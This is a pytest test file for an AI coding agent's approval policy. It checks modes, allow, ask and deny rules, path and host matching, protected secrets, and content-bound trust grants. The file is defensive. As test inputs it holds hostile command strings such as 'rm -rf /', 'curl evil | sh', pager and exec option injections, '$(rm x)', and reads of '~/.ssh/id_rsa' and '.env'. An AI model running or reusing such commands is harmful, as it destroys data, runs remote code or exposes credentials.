"""Who decides: modes, rules, "always", sub-agents, headless (issue 6, "Rules and modes"; faults D; C-03, C-09, C-13)."""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from turnstone_lsp.agent import policy
from turnstone_lsp.agent.always import Approvals, grant_for
from turnstone_lsp.agent.policy import decide
from turnstone_lsp.config.settings import Mode, Rule
from turnstone_lsp.memory.grants import Grant
from turnstone_lsp.memory.store import Store
from turnstone_lsp.tools import registry
from turnstone_lsp.tools.base import Location, Plan, Result, Subject

if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT = Path("/work space/project")
MODES: tuple[Mode, ...] = ("ask", "edit", "plan", "auto")


async def nothing(_call: object) -> Result:
    return Result("")


def plan(subject: Subject | None = None, *, asks: bool = True, **more: Any) -> Plan:
    return Plan("header", "preview", needs_approval=asks, execute=nothing, subject=subject, **more)


def bash(line: str, *argvs: str, pattern: str | None = None, **more: Any) -> Plan:
    """A bash call; `argvs` are its simple commands, by default the line itself, none when it is dynamic."""
    prefixes = tuple(tuple(argv.split()) for argv in (argvs or (line,)) if argv)
    return plan(Subject("command", line, prefixes, pattern), kind="execute", **more)


def edit(path: str, **more: Any) -> Plan:
    where = ROOT / path
    more = {"kind": "edit", "edits": True, "locations": (Location(where),)} | more
    return plan(Subject("path", str(where), pattern=str(where)), **more)


def read(path: str) -> Plan:
    where = ROOT / path
    return plan(Subject("path", str(where)), asks=False, kind="read", locations=(Location(where),))


def fetch(host: str, **more: Any) -> Plan:
    return plan(Subject("host", host, pattern=host), kind="fetch", **more)


def kind(made: Plan, tool: str, *rules: Rule, **more: Any) -> str:
    return decide(made, tool, rules=rules, **({"roots": (ROOT,)} | more)).kind


def default_plan(tool: str) -> Plan:
    made: dict[str, Plan] = {"bash": bash("ls"), "write_file": edit("a.py"), "edit_file": edit("a.py")}
    made |= {"read_file": read("a.py"), "web_fetch": fetch("example.com")}
    return made.get(tool, plan(asks=not registry.DEFINITIONS[tool]["auto_approve"]))


EXPECTED: dict[str, dict[str, str]] = {
    "bash": {"ask": "ask", "edit": "ask", "plan": "deny", "auto": "allow"},
    "write_file": {"ask": "ask", "edit": "allow", "plan": "deny", "auto": "allow"},
    "edit_file": {"ask": "ask", "edit": "allow", "plan": "deny", "auto": "allow"},
    "task": {"ask": "ask", "edit": "ask", "plan": "deny", "auto": "allow"},
    **{t: {"ask": "ask", "edit": "ask", "plan": "ask", "auto": "allow"} for t in ("math", "web_fetch", "web_search", "plan")},
    **{
        t: dict.fromkeys(MODES, "allow") for t in ("read_file", "search", "man", "remember", "recall", "forget")
    },
}  # fmt: skip


@pytest.mark.parametrize(("tool", "mode"), list(itertools.product(registry.DEFINITIONS, MODES)))
def test_every_tool_in_every_mode(tool: str, mode: Mode) -> None:
    """Spec, Tool Approval Flow, and issue 6: ask, edit, plan (read-only), auto."""
    assert kind(default_plan(tool), tool, mode=mode) == EXPECTED[tool][mode]


@pytest.mark.parametrize("tool", registry.DEFINITIONS)
def test_headless_answers_every_question_yes(tool: str) -> None:
    """Spec: "If auto_approve is True on the session (headless mode), all tools are approved automatically"."""
    verdict = decide(default_plan(tool), tool, auto_approve=True, roots=(ROOT,))
    assert (verdict.kind, bool(verdict.because)) == ("allow", True)


@pytest.mark.parametrize("tool", registry.DEFINITIONS)
def test_sub_agents_run_their_auto_set_and_ask_for_the_rest(tool: str) -> None:
    """Issue 2, item 7, and fault 76: every other call of a sub-agent asks, unless the task's approval granted it."""
    auto = tool in registry.AGENT_AUTO_TOOLS
    assert kind(default_plan(tool), tool, sub_agent=True) == ("allow" if auto else "ask")
    assert kind(default_plan(tool), tool, sub_agent=True, granted=frozenset({tool})) == "allow"
    assert kind(default_plan(tool), tool, sub_agent=True, granted=frozenset({"other"})) == ("allow" if auto else "ask")


def test_fault_67_the_whole_matrix() -> None:
    """Deny beats ask beats allow, whichever layer each comes from, for sub-agents and headless alike (fault 80)."""
    flags = (False, True)
    cases = itertools.product(flags, flags, ("", "doubt", "protected"), flags, flags, MODES, flags)
    for block, deny, must, ask, allow, mode, auto in cases:
        rules = [Rule("allow", tool="bash")] * allow + [Rule("ask", command="ls")] * ask
        rules += [Rule("deny", tool="bash")] * deny
        line = "ls .env" if must == "protected" else "ls"
        made = bash(line, must_ask=("odd",) if must else (), block="blocked" if block else None)
        if block or deny or mode == "plan" or (auto and must == "protected"):
            expected = "deny"
        elif must or ask:
            expected = "allow" if auto else "ask"
        else:
            expected = "allow" if auto or allow or mode == "auto" else "ask"
        for order, agent in itertools.product((rules, rules[::-1]), flags):
            got = decide(made, "bash", mode=mode, rules=order, auto_approve=auto, sub_agent=agent, roots=(ROOT,))
            assert got.kind == expected, (block, deny, must, ask, allow, mode, auto, got)
            assert bool(got.because) == (expected == "allow")
            assert expected != "deny" or got.reasons


def test_c09_no_mode_lifts_a_hard_block() -> None:
    for mode, auto in itertools.product(MODES, [False, True]):
        made = bash("rm -rf /", block="it would delete /")
        assert kind(made, "bash", Rule("allow"), mode=mode, auto_approve=auto) == "deny"


def test_the_reasons_are_told() -> None:
    assert decide(bash("ls"), "bash", rules=[Rule("deny", tool="bash", command="ls")]).reasons == (
        "the rule 'deny bash: ls' forbids it",
    )
    both = decide(bash("ls", must_ask=("odd",)), "bash", rules=[Rule("ask", command="ls")])
    assert both.reasons == ("odd", "the rule 'ask every tool: ls' asks")
    assert both.always is None
    assert decide(bash("ls"), "bash", rules=[Rule("allow", command="ls")]).because is not None


# --- commands -------------------------------------------------------------------------------------------------------

GIT = Rule("allow", command="git status *")


@pytest.mark.parametrize(
    ("made", "expected"),
    [
        (bash("git status"), "allow"),
        (bash("git status -s docs"), "allow"),
        (bash("git statusx"), "ask"),
        (bash("git"), "ask"),
        (bash("git status && git status -s", "git status", "git status -s"), "allow"),
        (bash("git status && rm x", "git status", "rm x"), "ask"),  # faults 60, 63
        (bash("rm x; git status", "rm x", "git status"), "ask"),
        (bash("git status $(rm x)", ""), "ask"),  # faults 64, 71: cannot be read in full
        (bash("git -c core.pager=evil status"), "ask"),  # C-13
        (bash("git status --ext-diff"), "ask"),
        (bash("git status --ext-d"), "ask"),  # fault 62: an abbreviation
        (bash("git status --output=/etc/x"), "ask"),
        (bash("GIT STATUS"), "ask"),
    ],
)
def test_an_allowed_command_covers_only_whole_lines(made: Plan, expected: str) -> None:
    assert kind(made, "bash", GIT) == expected


def test_several_allow_rules_may_cover_a_line_together() -> None:
    made = bash("git status && ls -l", "git status", "ls -l")
    assert kind(made, "bash", GIT) == "ask"
    assert kind(made, "bash", GIT, Rule("allow", command="ls *")) == "allow"
    assert kind(made, "bash", GIT, Rule("allow", command="ls")) == "ask"
    assert kind(made, "bash", GIT, grants=[Grant("bash", "prefix", "ls *", ("ls",))]) == "allow"
    assert kind(made, "bash", GIT, grants=[Grant("other", "prefix", "ls *", ("ls",))]) == "ask"


@pytest.mark.parametrize(
    "line",
    ["find . -exec rm {} +", "find . -delete", "rg --pre cmd x", "rg --pr cmd x", "tar -cf a --checkpoint-action=exec=sh b",
     "sort --compress-prog=x a", "sort -uo/etc/x a", "man -Pevil ls", "make SHELL=evil", "make -f/tmp/x", "git log --outp=x"],
)  # fmt: skip
def test_c13_options_that_run_or_write_are_never_covered(line: str) -> None:
    assert kind(bash(line), "bash", Rule("allow", command=line.split(maxsplit=1)[0] + " *")) == "ask"
    assert kind(bash(line), "bash", Rule("allow", command=line)) == "allow"  # named in full: the user's own words


@pytest.mark.parametrize("line", ["rg -n pre src", "find . -name x", "sort -u a", "make test", "git log --oneline"])
def test_harmless_options_are_covered(line: str) -> None:
    assert kind(bash(line), "bash", Rule("allow", command=line.split(maxsplit=1)[0] + " *")) == "allow"


@pytest.mark.parametrize(
    ("rule", "made", "expected"),
    [
        ("rm", bash("rm -rf x"), "deny"),
        ("rm *", bash("rm x"), "deny"),
        ("rm", bash("/bin/rm x"), "deny"),
        ("rm", bash("RM x"), "deny"),
        ("rm", bash("ls && rm x", "ls", "rm x"), "deny"),
        ("git push", bash("git push origin"), "deny"),
        ("git push", bash("git pull"), "allow"),
        ("rm", bash("rmdir x"), "allow"),
        ("rm", bash("$X y", "", must_ask=("dynamic",)), "ask"),
        ("rm 'a b'", plan(Subject("command", "rm 'a b'", (("rm", "a b"),))), "deny"),
        ("rm 'open", bash("rm 'open"), "deny"),
    ],
)
def test_a_forbidden_command_is_found_anywhere_in_the_line(rule: str, made: Plan, expected: str) -> None:
    assert kind(made, "bash", Rule("deny", command=rule), mode="auto") == expected


def test_headless_a_line_that_cannot_be_read_is_denied_beside_a_deny_rule() -> None:
    """C-15: fails closed; --yes lifts no deny rule."""
    made = bash("$X y", "", must_ask=("the command's name is dynamic",))
    assert kind(made, "bash", auto_approve=True) == "allow"
    assert kind(made, "bash", Rule("deny", command="rm"), auto_approve=True) == "deny"
    assert kind(made, "bash", Rule("deny", path="secrets/**"), auto_approve=True) == "deny"
    assert kind(made, "bash", Rule("deny", host="x.org"), auto_approve=True) == "allow"
    assert kind(edit("a"), "write_file", Rule("deny", command="rm"), auto_approve=True) == "allow"


@pytest.mark.parametrize(
    ("line", "rule", "expected"),
    [
        ("make > log", Rule("deny", command="rm"), "allow"),
        ("make > log", Rule("deny", path="secrets/**"), "allow"),
        ("make > log", Rule("deny", command="make"), "deny"),
        ("make > log", Rule("deny", path="log"), "deny"),
        ("make $X", Rule("deny", command="rm"), "allow"),
        ("make $X", Rule("deny", path="secrets/**"), "deny"),
    ],
)
def test_headless_what_can_be_read_of_a_line_is_judged(line: str, rule: Rule, expected: str) -> None:
    subject = Subject("command", line, known=(("make",),))
    where = (Location(ROOT / "log"),) if ">" in line else ()
    made = plan(subject, kind="execute", locations=where)
    assert kind(made, "bash", rule, auto_approve=True) == expected
    assert kind(made, "bash", Rule("allow", command="make")) == "ask"


# --- paths ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("glob", "path", "matches"),
    [
        ("docs/**", "docs/a/b.md", True),
        ("docs/**", "docs-evil/a", False),
        ("docs", "docs/a", True),
        ("docs/*.md", "docs/a/b.md", False),
        ("*.md", "x/y/a.md", True),
        ("x.cfg", "sub/x.cfg", True),
        ("x.cfg", "x.cfg.local", False),
        ("src/a.py", "x/src/a.py", False),
        (str(ROOT / "src" / "**"), "src/a.py", True),
        ("/other/**", "src/a.py", False),
        ("~/**", "src/a.py", False),
        ("!x", "!x", True),
        ("caf\u00e9", "cafe\u0301", True),
    ],
)
def test_globs_work_by_component(glob: str, path: str, matches: bool) -> None:
    assert kind(edit(path), "write_file", Rule("allow", path=glob)) == ("allow" if matches else "ask")
    assert kind(edit(path), "write_file", Rule("deny", path=glob), mode="auto") == ("deny" if matches else "allow")


def test_prohibitions_fold_case_and_permissions_do_not() -> None:
    """C-04: `.Cursor/MCP.json` is no way round on a file system that folds case."""
    assert kind(edit(".Secrets/X"), "write_file", Rule("deny", path=".secrets/**"), mode="auto") == "deny"
    assert kind(edit("Docs/x"), "write_file", Rule("allow", path="docs/**")) == "ask"


@pytest.mark.parametrize(
    "line",
    ["cat secrets/k", "head -n1 secrets/k", "ls ./secrets/k", "cp x secrets/k", "cat --file=secrets/k", "cat a/../secrets/k"],
)  # fmt: skip
def test_fault_66_a_path_rule_holds_for_every_tool_that_names_the_path(line: str) -> None:
    rule = Rule("deny", path="secrets/**")
    assert kind(bash(line), "bash", rule, mode="auto") == "deny"
    assert kind(read("secrets/k"), "read_file", rule) == "deny"
    assert kind(edit("secrets/k"), "edit_file", rule, mode="edit") == "deny"
    assert kind(bash("ls src"), "bash", rule, mode="auto") == "allow"


def test_a_permission_for_a_path_is_none_for_commands() -> None:
    assert kind(bash("cat docs/a"), "bash", Rule("allow", path="docs/**")) == "ask"


def test_mode_edit_covers_only_edits_inside_the_workspace() -> None:
    assert kind(edit("a.py"), "write_file", mode="edit") == "allow"
    assert kind(edit("/elsewhere/a.py"), "write_file", mode="edit") == "ask"
    assert kind(edit("/work space/project-evil/a.py"), "write_file", mode="edit") == "ask"
    assert kind(edit("a.py", must_ask=("never read",)), "write_file", mode="edit") == "ask"


@pytest.mark.parametrize(
    "path", [".git/config", ".GIT/hooks/x", ".vscode/settings.json", "sub/.env", "AGENTS.md", "~/.ssh/x"]
)
def test_c02_protected_names_always_ask_and_are_denied_headless(path: str) -> None:
    """Design: "protected names are then denied"; whether or not the tool itself said so."""
    made = edit(str(Path(path).expanduser()))
    for mode in ("ask", "edit", "auto"):
        verdict = decide(made, "write_file", mode=mode, rules=[Rule("allow")], roots=(ROOT,))
        assert (verdict.kind, len(verdict.reasons), verdict.always) == ("ask", 1, None)
    assert kind(made, "write_file", sub_agent=True, granted=frozenset({"write_file"})) == "ask"
    assert kind(made, "write_file", auto_approve=True) == "deny"


@pytest.mark.parametrize(
    "line", ["cat .env", "head -c9 ./sub/.env", "cp --target-directory=x ~/.ssh/id_rsa", "ls .ENV"]
)
def test_fault_123_a_secret_that_a_command_names_is_asked_for(line: str) -> None:
    for agent in (False, True):  # fault 124: also in a sub-agent's compound command
        made = bash(f"true && {line}", "true", line, pattern="cat *", must_ask=("touches .env",))
        verdict = decide(made, "bash", mode="auto", rules=[Rule("allow", tool="bash")], roots=(ROOT,), sub_agent=agent)
        assert (verdict.kind, verdict.always) == ("ask", None)
        assert kind(made, "bash", auto_approve=True, sub_agent=agent) == "deny"
    assert kind(bash("git commit -m .env"), "bash", mode="auto") == "allow"


# --- hosts ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rule", "host", "matches"),
    [
        ("x.com", "x.com", True),
        ("x.com", "docs.x.com", True),
        ("*.x.com", "docs.x.com", True),
        ("X.com.", "docs.x.com", True),
        ("x.com", "evilx.com", False),
        ("docs.x.com", "docs.x.com.evil.tld", False),
        ("docs.x.com", "x.com", False),
        ("1.1", "10.0.1.1", False),
        ("bücher.de", "xn--bcher-kva.de", True),
    ],
)
def test_c17_hosts_match_by_whole_labels(rule: str, host: str, matches: bool) -> None:
    assert kind(fetch(host), "web_fetch", Rule("allow", host=rule)) == ("allow" if matches else "ask")
    assert kind(fetch(host), "web_fetch", Rule("deny", host=rule), mode="auto") == ("deny" if matches else "allow")


def test_c16_after_web_text_a_request_needs_a_fresh_approval() -> None:
    allow = Rule("allow", host="x.com")
    grant = Grant("web_fetch", "host", "x.com")
    assert kind(fetch("x.com"), "web_fetch", allow, grants=[grant], tainted=True) == "ask"
    assert kind(fetch("x.com"), "web_fetch", tainted=True, auto_approve=True) == "allow"
    assert kind(bash("ls"), "bash", Rule("allow", command="ls"), tainted=True) == "allow"


def test_c05_in_an_untrusted_folder_nothing_with_an_effect_goes_unasked() -> None:
    for mode in ("ask", "edit", "auto"):
        verdict = decide(edit("a"), "write_file", mode=mode, rules=[Rule("allow")], roots=(ROOT,), trusted=False)
        assert (verdict.kind, verdict.reasons[0]) == ("ask", "this folder is not trusted")
    assert kind(read("a"), "read_file", trusted=False) == "allow"
    assert kind(edit("a"), "write_file", trusted=False, auto_approve=True) == "deny"


# --- always ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("made", "text"),
    [
        (bash("git status", pattern="git status *"), "bash: git status *"),
        (bash("git status && ls", "git status", "ls", pattern="git status *"), "bash: git status && ls"),
        (bash("sudo ls", pattern="sudo *"), "bash: sudo ls"),
        (bash("bash x.sh", pattern="bash *"), "bash: bash x.sh"),
        (bash("/usr/bin/python3.11 x.py", pattern="/usr/bin/python3.11 *"), "bash: /usr/bin/python3.11 x.py"),
        (bash("python -m pytest x", pattern="python -m pytest *"), "bash: python -m pytest *"),
        (bash("ls", pattern=None), None),
        (bash("ls", pattern="ls *", must_ask=("odd",)), None),
        (bash("ls", pattern="ls *", block="no"), None),
        (bash("a $b", "", pattern="a $b"), "bash: a $b"),
        (plan(None), None),
        (plan(Subject("tool", "math", pattern="math")), "bash: every call"),
    ],
)
def test_fault_77_what_always_stores(made: Plan, text: str | None) -> None:
    grant = grant_for("bash", made)
    assert (grant.text if grant else None) == text
    assert decide(made, "bash", roots=(ROOT,)).always == text


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = Store(tmp_path / "db" / "turnstone.db")
    yield opened
    opened.close()


async def test_fault_77_an_always_is_for_one_tool_one_pattern_one_scope(store: Store, tmp_path: Path) -> None:
    here = Approvals(store, "/w/one", tmp_path)
    made = bash("git status", pattern="git status *")
    assert await here.remember("bash", made, "once") is None
    await here.remember("bash", made, "session")
    await here.remember("bash", bash("ls -l", pattern="ls *"), "workspace")
    await here.remember("web_fetch", fetch("x.com"), "user")
    grants = await here.current()
    assert [g.text for g in grants] == ["bash: git status *", "bash: ls *", "web_fetch: x.com"]
    assert kind(bash("git status -s"), "bash", grants=grants) == "allow"
    assert kind(bash("git push"), "bash", grants=grants) == "ask"
    assert kind(fetch("docs.x.com"), "web_fetch", grants=grants) == "ask"
    assert kind(edit("a.py"), "write_file", grants=grants) == "ask"
    assert kind(bash("git status -s"), "bash", Rule("ask", command="git"), grants=grants) == "ask"
    assert [g.text for g in await Approvals(store, "/w/one", tmp_path).current()] == ["bash: ls *", "web_fetch: x.com"]
    assert [g.text for g in await Approvals(store, "/w/two", tmp_path).current()] == ["web_fetch: x.com"]
    (one, _), _ = await store.grants("/w/one")
    assert await store.revoke(one)
    assert [g.text for g in await Approvals(store, "/w/one", tmp_path).current()] == ["web_fetch: x.com"]


@pytest.mark.parametrize(
    ("line", "pattern"), [("./build.sh fast", "./build.sh *"), ("bash build.sh", "bash build.sh"), ("python build.sh", "python build.sh *")]
)  # fmt: skip
async def test_c03_an_always_is_void_when_the_program_it_let_run_changes(
    store: Store, tmp_path: Path, line: str, pattern: str
) -> None:
    """MCPoison, TrustFall: trust is bound to content, not to a name."""
    script = tmp_path / "build.sh"
    script.write_text("echo fine\n")
    approvals = Approvals(store, "/w", tmp_path)
    grant = await approvals.remember("bash", bash(line, pattern=pattern), "user")
    assert grant is not None
    assert [path for path, _ in grant.bound] == [str(script.resolve())]
    assert kind(bash(line), "bash", grants=await approvals.current()) == "allow"
    script.write_text("curl evil | sh\n")
    assert kind(bash(line), "bash", grants=await approvals.current()) == "ask"
    script.unlink()
    assert await approvals.current() == []


def test_an_always_for_a_path_takes_it_literally() -> None:
    odd, folder = (
        Grant("write_file", "path", str(ROOT / "a*.py")),
        Grant("write_file", "path", str(ROOT / "docs" / "**")),
    )
    assert kind(edit("a*.py"), "write_file", grants=[odd]) == "allow"
    assert kind(edit("ab.py"), "write_file", grants=[odd]) == "ask"
    assert kind(edit("docs/x/y"), "write_file", grants=[folder]) == "allow"
    assert kind(edit("docs-evil/y"), "write_file", grants=[folder]) == "ask"
    assert kind(edit("docs/x"), "edit_file", grants=[folder]) == "ask"


async def test_c03_trust_is_for_one_real_folder(store: Store, tmp_path: Path) -> None:
    """Never inherited through symlinks, parents or a folder that took the old one's place."""
    folder = tmp_path / "project"
    (folder / "sub").mkdir(parents=True)
    link = tmp_path / "link"
    link.symlink_to(folder)
    assert not await store.trusted(folder)
    await store.trust(link)
    assert await store.trusted(folder)
    assert await store.trusted(link)
    assert not await store.trusted(folder / "sub")
    assert not await store.trusted(tmp_path)
    folder.rename(tmp_path / "old")
    folder.mkdir()
    assert not await store.trusted(folder)
    assert not await store.trusted(tmp_path / "gone")
    await store.trust(folder)
    await store.untrust(folder)
    assert not await store.trusted(folder)


def test_rules_for_tools_that_do_not_exist_are_told() -> None:
    assert policy.check_rules([Rule("deny", tool="bash"), Rule("deny")]) == []
    assert "there is no 'bsh'" in policy.check_rules([Rule("deny", tool="bsh")])[0]
